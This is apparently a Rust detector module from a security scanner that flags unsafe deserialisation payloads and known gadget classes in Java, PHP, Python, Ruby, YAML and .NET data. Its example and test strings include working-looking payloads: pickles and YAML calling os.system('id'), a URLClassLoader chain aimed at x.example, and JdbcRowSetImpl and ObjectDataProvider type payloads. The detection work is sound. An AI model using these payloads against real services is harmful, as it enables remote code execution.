//! Serialised objects that run code when they are read.

use std::sync::LazyLock;

use crate::{
    byte_set::ByteSet,
    detect::{
        Detector, Examples, Found, Gate, Signal,
        Strength::{Certain, Medium, Strong, Tag},
        Value,
        mark::{Mark, Marks, Site, anywhere, is_word, mark},
    },
};

/// Deserialisation of untrusted data (CWE-502): objects in the formats of Java, PHP, Python, Ruby and .NET, and names of
/// classes that are known to run something when a reader makes them (the gadgets of ysoserial, marshalsec and PHPGGC).
pub(super) struct Deserialization;

impl Detector for Deserialization {
    fn signal(&self) -> Signal {
        Signal::Deserialization
    }

    fn summary(&self) -> &'static str {
        "a serialised object of Java, PHP, Python, Ruby or .NET, which may run code when it is read"
    }

    fn examples(&self) -> Examples {
        Examples {
            found: &[
                "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==",
                "object=aced0005737200116a6176612e7574696c2e486173684d6170",
                "O:8:\"stdClass\":1:{s:1:\"a\";i:1;}",
                "a:2:{i:0;O:4:\"Evil\":0:{}i:1;i:2;}",
                "cos\nsystem\n(S'id'\ntR.",
                "gASVHQAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg==",
                "!!python/object/apply:os.system ['id']",
                "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://x.example/\"]]]]",
                "AAEAAAD/////AQAAAAAAAAAMAgAAAElTeXN0ZW0=",
                "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"autoCommit\":true}",
                "{\"rce\":\"_$$ND_FUNC$$_function(){return 1}()\"}",
                "BAhvOhZPYmplY3QwBjoKQHZhbHVlaQY=",
            ],
            passed: &[
                "a:1:{s:3:\"key\";s:5:\"value\";}",
                "{\"@type\":\"Person\",\"name\":\"Ann\"}",
                "TWFuIGlzIGRpc3Rpbmd1aXNoZWQ=",
                "tags: !!set {a, b}",
                "gASVery long name",
                "5d41402abc4b2a76b9719d911017c592",
            ],
        }
    }

    fn literals(&self) -> &'static [&'static str] {
        static LITERALS: LazyLock<Vec<&'static str>> =
            LazyLock::new(|| TABLE.iter().map(|mark| mark.literal).collect());
        &LITERALS
    }

    fn applies(&self, gate: &Gate) -> bool {
        gate.has_literal()
            || gate.bytes.has_any(ByteSet::CONTROL.and(ByteSet::NUL)) && gate.bytes.has_any(ByteSet::HIGH)
    }

    fn examine(&self, value: &Value<'_>, found: &mut Found) {
        let all = value.bytes.len();
        match value.bytes {
            // Magic number and version (Java Object Serialization Specification, §6.4.2).
            [0xac, 0xed, 0, 5, ..] => found.push("Java object", Certain, 0..4),
            [0x80, 2..=5, rest @ ..] if is_pickle(rest) => found.push("Python pickle", Certain, 0..2),
            // Version 4.8 of Ruby's Marshal, and an object.
            [4, 8, b'o' | b'U' | b'c', b':', ..] => found.push("Ruby object", Certain, 0..4),
            // .NET's BinaryFormatter: SerializedStreamHeader (MS-NRBF §2.6.1).
            [0, 1, 0, 0, 0, 0xff, 0xff, 0xff, 0xff, 1, 0, 0, 0, ..] => {
                found.push(".NET object", Certain, 0..13)
            }
            _ => {}
        }
        MARKS.examine(value.bytes, found);
        let names_a_type = matches!(value.name, b"@type" | b"$type" | b"@class");
        if names_a_type && is_java_class(value.bytes) {
            found.push("Java class as type", Strong, 0..all);
        }
        if names_a_type && found.iter().any(|evidence| evidence.what == GADGET) {
            found.push("gadget as type", Medium, 0..all);
        }
    }
}

const GADGET: &str = "gadget class";

static MARKS: LazyLock<Marks> = LazyLock::new(|| Marks::new(&[TABLE]));

static TABLE: &[Mark] = &[
    mark("ro0ab", "Java object in base64", Certain, is_java_base64),
    mark("kztaau", "Java object in base64", Strong, |site| site.text() == b"KztAAU"),
    mark("cs7qaf", "Java object in base64", Strong, |site| site.text() == b"Cs7QAF"),
    mark("aced0005", "Java object in hexadecimal", Certain, starts_hex),
    mark("\":0:{", "PHP object", Certain, ends_php_object),
    mark(":{s:", "PHP object", Certain, ends_php_object),
    mark(":{i:", "PHP object", Certain, ends_php_object),
    mark(":{o:", "PHP object", Certain, ends_php_object),
    mark(":{a:", "PHP object", Certain, ends_php_object),
    mark(":{b:", "PHP object", Certain, ends_php_object),
    mark(":{}", "PHP object", Certain, ends_php_object),
    mark(":{r:", "PHP object", Certain, ends_php_object),
    mark(":{x:", "PHP object", Certain, ends_php_object),
    mark(";o:", "PHP object", Certain, starts_php_object),
    mark("{o:", "PHP object", Certain, starts_php_object),
    mark(";c:", "PHP object", Certain, starts_php_object),
    mark(":{s:", "PHP array", Tag, ends_php_array),
    mark(":{i:", "PHP array", Tag, ends_php_array),
    mark("cos\n", "Python pickle", Certain, names_a_function),
    mark("cnt\n", "Python pickle", Certain, names_a_function),
    mark("cposix\n", "Python pickle", Certain, names_a_function),
    mark("csubprocess\n", "Python pickle", Certain, names_a_function),
    mark("c__builtin__\n", "Python pickle", Certain, names_a_function),
    mark("cbuiltins\n", "Python pickle", Certain, names_a_function),
    mark("ccommands\n", "Python pickle", Certain, names_a_function),
    mark("gasv", "Python pickle in base64", Certain, is_pickle_base64),
    mark("gawv", "Python pickle in base64", Certain, is_pickle_base64),
    mark("gan", "Python pickle in base64", Certain, is_pickle_base64),
    mark("gaj", "Python pickle in base64", Certain, is_pickle_base64),
    mark("!!python/", "Python object in YAML", Certain, anywhere),
    mark("yaml.org,2002:python/", "Python object in YAML", Certain, anywhere),
    mark("!!javax.", "Java object in YAML", Certain, anywhere),
    mark("!!java.", "Java object in YAML", Certain, anywhere),
    mark("!!com.sun.", "Java object in YAML", Certain, anywhere),
    mark("!!org.", "Java object in YAML", Strong, anywhere),
    mark("!!ch.qos.", "Java object in YAML", Certain, anywhere),
    mark("!ruby/object", "Ruby object in YAML", Certain, anywhere),
    mark("!ruby/hash", "Ruby object in YAML", Certain, anywhere),
    mark("!ruby/struct", "Ruby object in YAML", Certain, anywhere),
    mark("!ruby/class", "Ruby object in YAML", Strong, anywhere),
    mark("aaeaaad/////", ".NET object in base64", Certain, |site| {
        site.text() == b"AAEAAAD/////" && starts_run(site)
    }),
    mark("bahvo", "Ruby object in base64", Certain, is_ruby_base64),
    mark("bahvog", "Ruby object in base64", Certain, is_ruby_base64),
    mark("_$$nd_func$$_", "function of node-serialize", Certain, anywhere),
    mark("jdbcrowsetimpl", GADGET, Certain, is_qualified),
    mark("templatesimpl", GADGET, Certain, is_qualified),
    mark("badattributevalueexpexception", GADGET, Strong, is_qualified),
    mark("org.apache.commons.collections.functors.", GADGET, Strong, is_no_import),
    mark("org.apache.commons.collections4.functors.", GADGET, Strong, is_no_import),
    mark("org.apache.ibatis.datasource.jndi", GADGET, Certain, is_no_import),
    mark("com.mchange.v2.c3p0.", GADGET, Strong, is_no_import),
    mark("com.zaxxer.hikari.hikariconfig", GADGET, Strong, is_typed),
    mark("ch.qos.logback.core.db.", GADGET, Strong, is_no_import),
    mark("org.apache.shiro.jndi.", GADGET, Strong, is_no_import),
    mark("org.apache.shiro.realm.jndi.", GADGET, Strong, is_no_import),
    mark("org.apache.tomcat.dbcp.dbcp", GADGET, Strong, is_typed),
    mark("org.codehaus.groovy.runtime.methodclosure", GADGET, Strong, is_no_import),
    mark("org.codehaus.groovy.runtime.convertedclosure", GADGET, Strong, is_no_import),
    mark("com.sun.syndication.feed.impl.", GADGET, Strong, is_no_import),
    mark("java.beans.eventhandler", GADGET, Strong, is_no_import),
    mark("java.beans.xmldecoder", GADGET, Strong, is_no_import),
    mark("<dynamic-proxy>", "XStream proxy", Strong, anywhere),
    mark("javax.imageio.imageio$containsfilter", GADGET, Certain, anywhere),
    mark("com.sun.corba.se.impl", GADGET, Strong, is_no_import),
    mark("ysoserial", "tool for gadgets", Strong, |site| matches!(site.after().first(), Some(b'.' | b'/'))),
    mark("objectdataprovider", GADGET, Strong, is_typed),
    mark("system.windows.data.", "class of a gadget's package", Medium, is_typed),
    mark("system.windows.markup.xamlreader", GADGET, Strong, is_typed),
    mark("system.configuration.install.assemblyinstaller", GADGET, Strong, anywhere),
    mark("system.diagnostics.process,", GADGET, Strong, anywhere),
    mark("system.diagnostics.processstartinfo,", GADGET, Strong, anywhere),
    mark("textformattingrunproperties", GADGET, Strong, anywhere),
    mark("activitysurrogateselector", GADGET, Strong, anywhere),
    mark("system.data.services.internal.expandedwrapper", GADGET, Certain, anywhere),
    mark("microsoft.visualstudio.text.formatting", GADGET, Strong, anywhere),
    mark("system.security.principal.windowsidentity,", GADGET, Strong, anywhere),
    mark("monolog\\handler\\", GADGET, Strong, is_in_php_object),
    mark("guzzlehttp\\cookie\\", GADGET, Strong, is_in_php_object),
    mark("illuminate\\broadcasting\\pendingbroadcast", GADGET, Strong, is_in_php_object),
];

/// Whether no base64 or hexadecimal stands right before the literal.
fn starts_run(site: &Site<'_>) -> bool {
    !site
        .before()
        .last()
        .is_some_and(|byte| byte.is_ascii_alphanumeric() || matches!(byte, b'+' | b'_' | b'-'))
}

/// `rO0AB`: the bytes `AC ED 00 05` and the first of an object.
fn is_java_base64(site: &Site<'_>) -> bool {
    site.text() == b"rO0AB" && starts_run(site)
}

fn starts_hex(site: &Site<'_>) -> bool {
    let before = site.before();
    let before = before.strip_suffix(b"0x").or(before.strip_suffix(b"\\x")).unwrap_or(before);
    !before.last().is_some_and(u8::is_ascii_alphanumeric)
        && site.after().iter().take(4).filter(|byte| byte.is_ascii_hexdigit()).count() == 4
}

/// `O:8:"stdClass":1` before `:{`: the name and the number of members.
fn ends_php_object(site: &Site<'_>) -> bool {
    php_header(site).is_some_and(|header| matches!(header, b'O' | b'C' | b'o' | b'E'))
}

/// `a:1` before `:{`.
fn ends_php_array(site: &Site<'_>) -> bool {
    let before = site.before();
    let digits = before.iter().rev().take_while(|byte| byte.is_ascii_digit()).count();
    let rest = before.get(..before.len() - digits).unwrap_or_default();
    digits > 0 && matches!(rest, [b'a', b':'] | [.., b';' | b'{', b'a', b':'])
}

/// The letter that a PHP value with a quoted name begins with: `O` in `O:8:"stdClass":1:{`. Names longer than what is
/// looked at are found by what is inside the object.
fn php_header(site: &Site<'_>) -> Option<u8> {
    let text = site.value.get(site.at.start.saturating_sub(96)..site.at.start)?;
    let text = if site.text().starts_with(b"\"") {
        text
    } else {
        let digits = text.iter().rev().take_while(|byte| byte.is_ascii_digit()).count();
        let text = text.get(..text.len() - digits)?.strip_suffix(b"\":")?;
        if digits == 0 {
            return None;
        }
        text
    };
    let name = text.iter().rev().take_while(|&&byte| is_word(byte) || byte == b'\\').count();
    let text = text.get(..text.len() - name)?;
    let text =
        text.strip_suffix(b"\"").map(|text| text.strip_suffix(b"\\").unwrap_or(text))?.strip_suffix(b":")?;
    let digits = text.iter().rev().take_while(|byte| byte.is_ascii_digit() || **byte == b'+').count();
    match text.get(..text.len() - digits)? {
        [.., letter, b':'] if digits > 0 => Some(*letter),
        _ => None,
    }
}

/// `O:4:"` behind another value.
fn starts_php_object(site: &Site<'_>) -> bool {
    let after = site.after();
    let digits = after.iter().take_while(|byte| byte.is_ascii_digit() || **byte == b'+').count();
    site.text().get(1).is_some_and(u8::is_ascii_uppercase)
        && digits > 0
        && matches!(after.get(digits..), Some([b':', b'"', next, ..] | [b':', b'\\', b'"', next, ..]) if is_word(*next))
}

fn is_in_php_object(site: &Site<'_>) -> bool {
    matches!(site.before(), [.., b':', b'"'] | [.., b'\\', b'"'])
}

/// Behind `c` and the module follows the function, on a line of its own (protocol 0 of pickle).
fn names_a_function(site: &Site<'_>) -> bool {
    let name = site.after().iter().take_while(|&&byte| is_word(byte)).count();
    let starts = match site.before().last() {
        None => true,
        Some(byte) => {
            matches!(byte, b'(' | b'\n' | b'.' | b'0' | b'"' | b'\'') || *byte < b' ' || *byte >= 0x80
        }
    };
    // The rest of the pickle: a mark, a string, a memo, a list's or tuple's bytes, the end.
    let goes_on = matches!(
        site.after().get(name..).unwrap_or_default(),
        [b'\n', b'(' | b'.' | b'0', ..]
            | [b'\n', b'S', b'\'' | b'"', ..]
            | [b'\n', b'p', b'0'..=b'9', ..]
            | [b'\n', b'q' | b'X' | b'U' | 0x80.., 0..=31 | b'(', ..]
    );
    starts && name > 0 && goes_on
}

/// What follows the protocol's number: a frame, or a function, a tuple, a list or a dictionary, and in the
/// beginning the name of a module or a function to be called.
fn is_pickle(rest: &[u8]) -> bool {
    match rest {
        [0x95, _, _, _, _, 0, 0, 0, 0, ..] => true,
        [b'c', name @ ..] => name.first().is_some_and(|&byte| is_word(byte)),
        [b'(' | b']' | b'}' | b'X' | 0x8c, b'q' | b'c' | 0x94 | 0 | 1..=20, ..] => true,
        _ => false,
    }
}

/// Pickle's protocol number and first opcodes, at the front of a value that is base64.
fn is_pickle_base64(site: &Site<'_>) -> bool {
    if site.at.start > 2 || !starts_run(site) {
        return false;
    }
    let mut head = [0; 12];
    let text = site.value.get(site.at.start..).unwrap_or_default();
    match (text.get(..16).and_then(|text| decode(text, &mut head)), head) {
        (Some(12), [0x80, 2..=5, rest @ ..]) => is_pickle(&rest),
        _ => false,
    }
}

/// `04 08 o :` in base64.
fn is_ruby_base64(site: &Site<'_>) -> bool {
    site.text().starts_with(b"BAhvO") && site.at.start == 0 && site.value.len() > 12
}

/// A class with its package before it.
fn is_qualified(site: &Site<'_>) -> bool {
    site.before().last() == Some(&b'.') && is_no_import(site)
}

/// Not as in `import com.mchange...`, which people paste.
fn is_no_import(site: &Site<'_>) -> bool {
    let before = site.before();
    let start = before.iter().rposition(|byte| byte.is_ascii_whitespace());
    !start.is_some_and(|start| {
        let line = before.get(..start).unwrap_or_default().trim_ascii_end();
        line.ends_with(b"import") || line.ends_with(b"at") || line.ends_with(b"static")
    })
}

/// Within quotes or before a comma, as a type's name in JSON or XAML.
fn is_typed(site: &Site<'_>) -> bool {
    let quoted = site.before().iter().rev().take(32).any(|byte| matches!(byte, b'"' | b'\'' | b'<'));
    (quoted || site.at.start == 0 || site.before().last() == Some(&b'.'))
        && is_no_import(site)
        && site.value.iter().take(4096).filter(|byte| **byte == b'\n').count() < 3
}

/// The name of a class in a package of the runtime or of libraries with gadgets.
fn is_java_class(value: &[u8]) -> bool {
    let value = value.strip_prefix(b"[").unwrap_or(value);
    let value = value.strip_prefix(b"L").unwrap_or(value);
    [
        &b"java.lang."[..],
        b"java.net.",
        b"javax.",
        b"com.sun.",
        b"sun.",
        b"org.apache.",
        b"com.mchange.",
        b"ch.qos.",
    ]
    .iter()
    .any(|package| value.starts_with(package))
        && value.iter().all(|&byte| is_word(byte) || matches!(byte, b'.' | b'$' | b';'))
}

/// Decodes base64 (either alphabet) into `out` and returns how many bytes it gave; `None` if it is not base64.
fn decode(text: &[u8], out: &mut [u8]) -> Option<usize> {
    let mut len = 0;
    for four in text.chunks_exact(4) {
        let mut bits = 0_u32;
        for &byte in four {
            bits = bits << 6 | u32::from(sextet(byte)?);
        }
        for byte in bits.to_be_bytes().into_iter().skip(1) {
            *out.get_mut(len)? = byte;
            len += 1;
        }
    }
    Some(len)
}

const fn sextet(byte: u8) -> Option<u8> {
    match byte {
        b'A'..=b'Z' => Some(byte - b'A'),
        b'a'..=b'z' => Some(byte - b'a' + 26),
        b'0'..=b'9' => Some(byte - b'0' + 52),
        b'+' | b'-' => Some(62),
        b'/' | b'_' => Some(63),
        _ => None,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn score(value: Value<'_>) -> u32 {
        let mut found = Found::default();
        Deserialization.examine(&value, &mut found);
        found.score()
    }

    fn score_of(bytes: &[u8]) -> u32 {
        score(Value::text(bytes))
    }

    #[test]
    fn finds_objects_of_each_format() {
        let attacks: &[&[u8]] = &[
            b"\xac\xed\x00\x05sr\x00\x11java.util.HashMap",
            b"data=rO0ABXQABHRlc3Q=",
            b"0xaced00057372",
            b"O:4:\"Evil\":2:{s:1:\"a\";i:1;s:1:\"b\";N;}",
            b"O:+4:\"Evil\":0:{}",
            b"a:1:{s:1:\"x\";O:7:\"Foo\\Bar\":0:{}}",
            b"x|O:4:\"Evil\":1:{s:3:\"cmd\";s:2:\"id\";}",
            b"C:11:\"ArrayObject\":37:{x:i:0;a:0:{};m:a:0:{}}",
            b"O:40:\"Illuminate\\Broadcasting\\PendingBroadcast\":1:{s:9:\"events\";O:1:\"A\":0:{}}",
            b"\x80\x04\x95\x1d\x00\x00\x00\x00\x00\x00\x00\x8c\x05posix",
            b"\x80\x03cposix\nsystem\n",
            b"cposix\nsystem\n(S'id'\ntR.",
            b"(cos\nsystem\nS'id'\no.",
            b"c__builtin__\neval\n(S'1'\ntR.",
            b"gANjcG9zaXgKc3lzdGVtCnEAWAIAAABpZHEBhXECUnEDLg==",
            b"!!python/object/new:os.system [id]",
            b"- !!python/name:os.system",
            b"!<tag:yaml.org,2002:python/object/apply:os.system> [id]",
            b"--- !ruby/object:Gem::Installer\ni: x",
            b"\x04\x08o:\x0bObject\x00",
            b"{\"$type\":\"System.Windows.Data.ObjectDataProvider, PresentationFramework\"}",
            b"[\"com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl\",{\"a\":1}]",
            b"<java version=\"1.8\" class=\"java.beans.XMLDecoder\">",
            b"<sorted-set><dynamic-proxy><handler class=\"java.beans.EventHandler\"/></dynamic-proxy></sorted-set>",
        ];
        let missed: Vec<_> = attacks.iter().filter(|attack| score_of(attack) < 5).collect();
        assert!(missed.is_empty(), "{missed:x?}");
    }

    #[test]
    fn a_class_as_type_counts() {
        let value = Value { name: b"@type", ..Value::text(b"java.net.Inet4Address") };
        assert!(score(value) >= 5);
        let value = Value { name: b"$type", ..Value::text(b"System.Windows.Data.ObjectDataProvider, P") };
        assert!(score(value) >= 8);
        for honest in ["Person", "http://schema.org/Person", "type.googleapis.com/google.rpc.ErrorInfo"] {
            assert_eq!(score(Value { name: b"@type", ..Value::text(honest.as_bytes()) }), 0, "{honest}");
        }
    }

    #[test]
    fn lets_similar_text_pass() {
        for honest in [
            "a:3:{i:0;i:1;i:1;i:2;i:2;i:3;}",
            "b:1;",
            "note: O:4 and a:1:{",
            "gasvik and gandalf",
            "GANDALF THE GREY SAID",
            "gANt chart of the project=",
            "import com.mchange.v2.c3p0.ComboPooledDataSource;\n",
            "\tat com.sun.corba.se.impl.Foo(Foo.java:1)",
            "cos\nsin\ntan",
            "los cos\nsystem\n",
            "BAhvO",
            "!!important",
            "!!! wow",
            "--- !Ref bucket",
            "{\"o\":{\"s\":1}}",
            ";O: wow",
            "wow ;o:3",
            "deadbeefaced0005cafebabe",
        ] {
            assert!(score_of(honest.as_bytes()) < 5, "{honest}");
        }
        assert_eq!(score_of(b"\x80\x04hello"), 0);
    }
}
